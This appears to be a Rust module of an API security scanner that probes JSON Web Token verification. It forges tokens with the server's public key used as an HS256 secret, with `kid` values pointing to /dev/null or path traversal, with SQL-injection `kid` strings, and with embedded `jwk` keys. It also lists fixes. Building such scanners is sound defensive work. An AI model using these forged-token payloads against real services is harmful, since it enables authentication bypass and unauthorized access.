//! A token that chooses the key that it is verified with.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use jsonwebtoken::{Algorithm, EncodingKey, Header, encode};
use report::Level;
use serde_json::Value;

use super::carried::Carried;
use crate::attack::{Attack, Tried};
use crate::door::{GuideDoor, ShutBy};
use crate::probe::Probe;
use crate::prober::{Prober, Stop};
use crate::token;

pub(super) const ATTACK: Attack = Attack {
    name: "token-confusion",
    door: GuideDoor::Authentication,
    shut_by: ShutBy::Code,
    thought: "Can my token choose the key that it is verified with: a public one, an empty one, or my own?",
    level: Level::Critical,
    references: &["CWE-347", "CWE-327", "API2:2023"],
    mend_in_code: "Fix one algorithm for each key, look keys up by `kid` in a list, and ignore `jwk`, `jku` and `x5u` of tokens.",
    mend_at_gate: "Declare the issuer in [[auth.issuer]]: each key has its one algorithm, and a token cannot bring one.",
    run: |p, tried| Box::pin(run(p, tried)),
};

/// Where servers publish their keys.
const KEY_SETS: [&str; 6] =
    ["/.well-known/jwks.json", "/.well-known/jwks", "/jwks.json", "/jwks", "/oauth2/jwks", "/auth/jwks"];

/// Where servers leave a public key.
const PUBLIC_KEYS: [&str; 3] = ["/public.pem", "/public-key", "/keys/public.pem"];

async fn run(p: &Prober<'_>, tried: &mut Tried) -> Result<(), Stop> {
    let Some(carried) = Carried::by_somebody(p).await? else {
        tried.not_tried("no account has a JSON Web Token in a request that is served with it alone");
        return Ok(());
    };
    if !carried.is_verified(p).await? {
        tried.not_tried("signatures are not verified at all");
        return Ok(());
    }
    let mut variants = key_ids(&carried.claims);
    variants.extend(
        token::with_own_key(&carried.claims)
            .map(|token| ("that brings its own key (`jwk`)".to_owned(), token)),
    );
    if carried.algorithm().starts_with(['R', 'P', 'E']) {
        for key in public_keys(p).await? {
            let forged = forge(&carried.claims, &header_like(&carried), &key);
            variants.extend(
                forged.map(|token| {
                    ("signed with the server's public key as a secret (HS256)".to_owned(), token)
                }),
            );
        }
    }
    let tokens =
        variants.into_iter().map(|(what, token)| (format!("a token {what} is served"), token)).collect();
    carried.try_each(p, tokens, tried).await
}

/// Tokens whose `kid` leads to a key that everybody knows.
fn key_ids(claims: &Value) -> Vec<(String, String)> {
    let mut tokens = Vec::new();
    for kid in ["/dev/null", "../../../../../../../../dev/null", "file:///dev/null", ""] {
        for secret in ["", "\0"] {
            let what = format!("whose `kid` is `{kid}`, signed with an empty key");
            tokens.extend(token::with_kid(claims, kid, secret).map(|token| (what, token)));
        }
    }
    for kid in ["x' UNION SELECT 'dw' -- ", "x\" UNION SELECT \"dw\" -- ", "-1 UNION SELECT 'dw' -- "] {
        let what = format!("whose `kid` is `{kid}`, signed with what that selects");
        tokens.extend(token::with_kid(claims, kid, "dw").map(|token| (what, token)));
    }
    tokens
}

fn header_like(carried: &Carried) -> Header {
    let kid = carried.header.get("kid").and_then(Value::as_str).map(str::to_owned);
    Header { kid, ..Header::new(Algorithm::HS256) }
}

fn forge(claims: &Value, header: &Header, secret: &[u8]) -> Option<String> {
    encode(header, claims, &EncodingKey::from_secret(secret)).ok()
}

/// The server's public keys, in each form in which a server may hold them.
async fn public_keys(p: &Prober<'_>) -> Result<Vec<Vec<u8>>, Stop> {
    let mut forms = Vec::new();
    for path in KEY_SETS {
        let Ok((answer, ..)) = p.send(&Probe::get(path)).await else { continue };
        let Some(set) = answer.json().filter(|_| answer.is_success()) else { continue };
        for key in set.get("keys").and_then(Value::as_array).into_iter().flatten().take(4) {
            forms.extend(forms_of(key));
        }
    }
    for path in PUBLIC_KEYS {
        let Ok((answer, ..)) = p.send(&Probe::get(path)).await else { continue };
        let text = answer.text();
        if answer.is_success() && text.starts_with("-----BEGIN") && text.len() < 8000 {
            forms.extend(endings(&text));
        }
    }
    forms.truncate(24);
    Ok(forms)
}

/// A key of a set as PEM, DER and JSON.
fn forms_of(key: &Value) -> Vec<Vec<u8>> {
    let part = |name: &str| URL_SAFE_NO_PAD.decode(key.get(name)?.as_str()?.trim_end_matches('=')).ok();
    let mut forms = Vec::new();
    if let (Some(modulus), Some(exponent)) = (part("n"), part("e"))
        && modulus.len() <= 1024
    {
        let inner = element(0x30, &[number(&modulus), number(&exponent)].concat());
        let algorithm =
            [0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00];
        let bits = element(0x03, &[&[0][..], &inner].concat());
        let whole = element(0x30, &[&algorithm[..], &bits].concat());
        forms.extend(endings(&pem("PUBLIC KEY", &whole)));
        forms.extend(endings(&pem("RSA PUBLIC KEY", &inner)));
        forms.push(whole);
    }
    let certificate =
        key.pointer("/x5c/0").and_then(Value::as_str).and_then(|text| STANDARD.decode(text).ok());
    if let Some(certificate) = certificate.filter(|bytes| bytes.len() < 8000) {
        forms.extend(endings(&pem("CERTIFICATE", &certificate)));
    }
    forms.push(key.to_string().into_bytes());
    forms
}

/// A file with a last line break, and without.
fn endings(text: &str) -> Vec<Vec<u8>> {
    let text = text.trim_end();
    vec![format!("{text}\n").into_bytes(), text.as_bytes().to_vec()]
}

/// An element of DER (X.690 §8.1).
fn element(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = content.len().to_be_bytes();
    let length: Vec<u8> = length.into_iter().skip_while(|byte| *byte == 0).collect();
    let mut all = vec![tag];
    match (content.len(), u8::try_from(length.len())) {
        (0..=127, _) => all.extend(length.last().copied().or(Some(0))),
        (_, Ok(count)) => {
            all.push(0x80 | count);
            all.extend(length);
        }
        _ => {}
    }
    all.extend(content);
    all
}

/// A positive number of DER: no byte too many, and none that makes it negative.
fn number(bytes: &[u8]) -> Vec<u8> {
    let mut content: Vec<u8> = bytes.iter().copied().skip_while(|byte| *byte == 0).collect();
    if content.first().is_none_or(|first| first & 0x80 != 0) {
        content.insert(0, 0);
    }
    element(0x02, &content)
}

fn pem(label: &str, bytes: &[u8]) -> String {
    let text = STANDARD.encode(bytes);
    let mut lines = String::new();
    for (at, c) in text.chars().enumerate() {
        if at % 64 == 0 {
            lines.push('\n');
        }
        lines.push(c);
    }
    format!("-----BEGIN {label}-----{lines}\n-----END {label}-----\n")
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn numbers_and_lengths_are_written_as_in_der() {
        for (bytes, expected) in [
            (&[1, 0, 1][..], &[2, 3, 1, 0, 1][..]),
            (&[0x80], &[2, 2, 0, 0x80]),
            (&[0, 5], &[2, 1, 5]),
            (&[], &[2, 1, 0]),
        ] {
            assert_eq!(number(bytes), expected);
        }
        assert_eq!(element(0x30, &[7; 200])[..4], [0x30, 0x81, 200, 7]);
        assert_eq!(element(0x30, &[7; 300])[..5], [0x30, 0x82, 1, 44, 7]);
        assert_eq!(element(0x04, &[]), [4, 0]);
    }

    #[test]
    fn a_key_of_a_set_has_the_forms_of_files() {
        let key = json!({ "kty": "RSA", "n": URL_SAFE_NO_PAD.encode([0xc5; 256]), "e": "AQAB" });
        let texts: Vec<String> =
            forms_of(&key).iter().map(|form| String::from_utf8_lossy(form).into_owned()).collect();
        assert!(
            texts
                .iter()
                .any(|text| text.starts_with("-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"))
        );
        assert!(texts.iter().any(|text| text.starts_with("-----BEGIN RSA PUBLIC KEY-----\nMIIBCgKCAQEAxc")
            && text.ends_with("-----")));
        assert_eq!(forms_of(&json!({ "kty": "EC", "crv": "P-256" })).len(), 1);
    }
}
